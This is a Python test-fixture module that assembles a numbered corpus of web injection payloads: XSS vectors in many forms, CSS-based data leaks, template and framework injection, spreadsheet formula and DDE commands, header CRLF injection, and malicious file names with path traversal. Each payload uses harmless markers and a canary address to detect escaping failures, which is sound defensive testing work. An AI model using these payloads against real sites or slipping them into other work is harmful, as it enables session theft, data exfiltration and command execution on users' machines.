"""Words that would run, call home or draw markup if a page, a file or a header ever let them through.

Written from the known classes, not copied. Each says who it is by its mark, so that a page can be asked what of it was
shown as words (good) and what became anything else (a hole). `«m»` is the mark, `«x»` a script that tells the page of
it, `«c»` an address that nobody may ever ask for.
"""

from collections.abc import Iterator
from dataclasses import dataclass

SCRIPTS = """
<script>«x»</script>
<ScRiPt>«x»</sCrIpT>
<script src=«c»></script>
<script type=module>«x»</script>
<script>/*<!--<script>*/«x»</script>
<scr<script>ipt>«x»</scr</script>ipt>
</script><script>«x»</script>
<script/«m»>«x»</script>
<noscript><p title="</noscript><script>«x»</script>">
<script>import('«c»')</script>
"""
EVENTS = '''
<img src=x onerror=«x»>
<img src=«c» alt=«m»>
<IMG """><SCRIPT>«x»</SCRIPT>">
<img/src="x"/onerror=«x»>
<img src=x onerror="«x»"//
<body onload=«x»>
<input autofocus onfocus=«x»>
<select autofocus onfocus=«x»><option>1</select>
<textarea autofocus onfocus=«x»></textarea>
<button autofocus onfocus=«x»>1</button>
<details open ontoggle=«x»>1</details>
<video src=x onerror=«x»></video>
<video><source onerror=«x»></video>
<audio src=x onerror=«x»></audio>
<marquee onstart=«x»>1</marquee>
<iframe onload=«x»></iframe>
<iframe src="javascript:parent.«x»"></iframe>
<iframe srcdoc="<script>parent.«x»</script>"></iframe>
<object data="javascript:«x»"></object>
<embed src="javascript:«x»">
<p style="animation:spin 1s" onanimationstart=«x»>1
<p onpointerover=«x» style="position:fixed;inset:0">1
<xss onfocus=«x» tabindex=1 autofocus id=«m»>
<dialog open onclose=«x»><form method=dialog><button autofocus>1
<a href=# popovertarget=p onbeforetoggle=«x»>1</a><p popover id=p>
'''
FOREIGN = """
<svg onload=«x»>
<svg/onload=«x»>
<svg><script>«x»</script></svg>
<svg><script href=«c» /></svg>
<svg><animate onbegin=«x» attributeName=x dur=1s>
<svg><set onbegin=«x» attributeName=x to=1>
<svg><a xlink:href="javascript:«x»"><text y=20>1</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='«x»'/>#x">
<svg><foreignObject><iframe onload=«x»></foreignObject></svg>
<svg><style><img title="</style><img src onerror=«x»>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=«x»&gt;">
<math href="javascript:«x»">1</math>
<math><annotation-xml encoding="text/html"><img src=x onerror=«x»></annotation-xml></math>
"""
BREAKOUTS = """
"><img src=x onerror=«x»>
'><img src=x onerror=«x»>
" autofocus onfocus=«x» x="
' autofocus onfocus=«x» x='
` autofocus onfocus=«x» x=`
 onfocus=«x» autofocus
"/onmouseover=«x» style=position:fixed;inset:0 a="
</textarea><img src=x onerror=«x»>
</title><img src=x onerror=«x»>
</style><img src=x onerror=«x»>
</option></select><img src=x onerror=«x»>
</template><img src=x onerror=«x»>
--><img src=x onerror=«x»><!--
]]><img src=x onerror=«x»>
</p></div></main></body><img src=x onerror=«x»>
<!-- «m»
<textarea>«m»
<plaintext>«m»
<base href=//evil.invalid/«m»/>
<meta http-equiv=refresh content="0;url=javascript:«x»">
<meta http-equiv=refresh content="0;url=«c»">
<link rel=stylesheet href=«c»>
<link rel=prefetch href=«c»>
<form action=«c»><button autofocus>«m»
<a id=«m» name=app href=#>1</a>
"""
ADDRESSES = """
javascript:«x»
JaVaScRiPt:«x»
java	script:«x»
 javascript:«x»
javascript://x.example/%0a«x»
javascript&colon;«x»
javascript&#58;«x»
data:text/html,<script>«x»</script>
data:text/html;base64,PHNjcmlwdD5fX3hzcygvYmFzZTY0Lyk8L3NjcmlwdD4=«m»
vbscript:«x»
https://x.example/"onmouseover="«x»
http://x.example/<img src=x onerror=«x»>
//evil.invalid/«m»
[«m»](javascript:«x»)
![«m»](«c»)
<javascript:«x»>
<a href="javascript:«x»">1</a>
<a href=javascript:«x» autofocus>1</a>
<a href="data:text/html,<script>«x»</script>">1</a>
<form><button formaction=javascript:«x»>1
mailto:a@x.example?subject=«m»"onfocus="«x»
tel:"onfocus=«x» autofocus x="
"""
FRAMEWORKS = """
{{ constructor.constructor('«x»')() }}«m»
«m»={{ 6|add:7 }}
«m»={% widthratio 6 1 7 %}
«m»={{6*7}}
«m»=${6*7}
«m»=#{6*7}
«m»=<%= 6*7 %>
«m»={{request.user.password}}{% debug %}
«m»%(number)s%(name)s%s%d%n
«m»{0}{name}{0.__class__}
<p x-data x-init="«x»">1
<p x-data="{a: «x»}">1
<p x-data @click="«x»" x-text="«x»">1
<p x-data="talk" x-bind:title="«x»">1
<p x-data x-html="'<img src=x onerror=«x»>'">1
<p hx-on:load="«x»" hx-on::load="«x»">1
<p hx-get=«c» hx-trigger=load>1
<p data-hx-post=«c» data-hx-trigger="load">1
<p hx-vals="js:{a: «x»}" hx-trigger=load hx-get=«c»>1
<p hx-trigger="load[«x»]" hx-get=«c»>1
<p hx-ext=json hx-swap-oob=true id=«m»>1
<p ng-app ng-init="«x»">{{$eval.constructor('«x»')()}}
"""
STYLES = """
<style>@import '«c»';</style>
<style>*{background:url(«c»)}</style>
<p style="background:url(«c»)">1
<p style="width:expression(«x»)">1
<p style=-moz-binding:url(«c»)>1
<style>input[name=csrfmiddlewaretoken][value^=a]{background:url(«c»)}</style>
"""
ENCODED = """
&lt;script&gt;«x»&lt;/script&gt;
&amp;lt;img src=x onerror=«x»&amp;gt;
&#60;img src=x onerror=«x»&#62;
&#x3c;img src=x onerror=«x»&#x3e;
&#0000060img src=x onerror=«x»&#0000062
%3Cscript%3E«x»%3C/script%3E
%253Cimg%2520src%253Dx%2520onerror%253D«x»%253E
\\u003cimg src=x onerror=«x»\\u003e
\\x3cimg src=x onerror=«x»\\x3e
＜script＞«x»＜/script＞
＜img src=x onerror=«x»＞
＂ autofocus onfocus=«x» x=＂
%C0%BCscript%C0%BE«x»«m»
+ADw-script+AD4-«x»+ADw-/script+AD4-
ʺ><img src=x onerror=«x»>
‮<img src=x onerror=«x»>‬
<img​ src=x onerror=«x»>
<﻿script>«x»</script>
<ſcript>«x»</ſcript>
=?utf-8?b?PHNjcmlwdD4=?=«m»
"""
CONTEXTS = """
";«x»;//
';«x»;//
\\";«x»;//
`;«x»;//
${«x»}
*/«x»/*
-«x»-
</script><!--«m»
{"a":"</script><script>«x»</script>"}
«m»\\
"],"__proto__":{"x":«x»},"a":["
«m» «x»
"""
SHEETS = """
=HYPERLINK("http://x.example/«m»","1")
=cmd|' /C calc'!A1«m»
+1+cmd|' /C calc'!A1«m»
-2+3+cmd|' /C calc'!A1«m»
@SUM(1+1)«m»
	=1+1«m»
＝1+1«m»
＋1+1«m»
;=1+1«m»
"=1+1«m»
DDE("cmd";"/C calc";"«m»")
 =1+1«m»
"""
NAMES = """
«m».svg
«m».html
«m»"onerror="«x»".png
«m»<img src=x onerror=«x»>.png
../../../«m».png
..\\..\\«m».png
«m».png;filename=x.html
«m»​.htaccess
«m».ph​p
«m»gnp‮.exe
"""
BY_SORT = {
    "script": SCRIPTS,
    "event": EVENTS,
    "svg, mathml": FOREIGN,
    "breakout": BREAKOUTS,
    "address": ADDRESSES,
    "framework": FRAMEWORKS,
    "style": STYLES,
    "encoded": ENCODED,
    "context": CONTEXTS,
    "sheet": SHEETS,
    "file name": NAMES,
}
SEVERAL_LINES = (  # what a line of its own cannot hold
    ("script", "<script\n>«x»</script\n>"),
    ("event", "<img src=x\nonerror\n=\n«x»\n>"),
    ("header", "«m»\r\nSet-Cookie: xss=«m»"),
    ("header", "«m»\r\nX-Xss: «m»\r\n\r\n<script>«x»</script>"),
    ("header", "«m»\nBcc: «m»@evil.invalid"),
    ("header", "«m»\u2028X-Xss: «m»\u2029<img src=x onerror=«x»>"),
    ("encoded", "<scr\x00ipt>«x»</script>"),
    ("encoded", "<img\x0bsrc=x\x0conerror=«x»>"),
    ("encoded", "\x1b]8;;javascript:«x»\x07«m»"),
    ("sheet", "\r=1+1«m»"),
    ("address", "java\nscript:«x»"),
)


@dataclass(frozen=True, kw_only=True)
class Payload:
    """One of them. `text` still has its places for a mark."""

    number: int
    sort: str
    text: str

    def at(self, way: str) -> str:
        """As it goes by one way; two small letters say which."""
        mark = mark_of(way, self.number)
        return (
            self.text.replace("«x»", f"__xss(/{mark}/)")
            .replace("«c»", f"/canary/{mark}")
            .replace("«m»", mark)
        )


def mark_of(way: str, number: int) -> str:
    return f"zq{way}{number:03d}z"


def corpus() -> list[Payload]:
    """All of them, numbered from one; those of one sort stand together."""
    return [Payload(number=at, sort=sort, text=text) for at, (sort, text) in enumerate(_all(), start=1)]


def _all() -> Iterator[tuple[str, str]]:
    for sort, lines in BY_SORT.items():
        for line in lines.strip("\n").split("\n"):
            if "«x»" in line or "«c»" in line or "«m»" in line:
                yield sort, line
    yield from SEVERAL_LINES
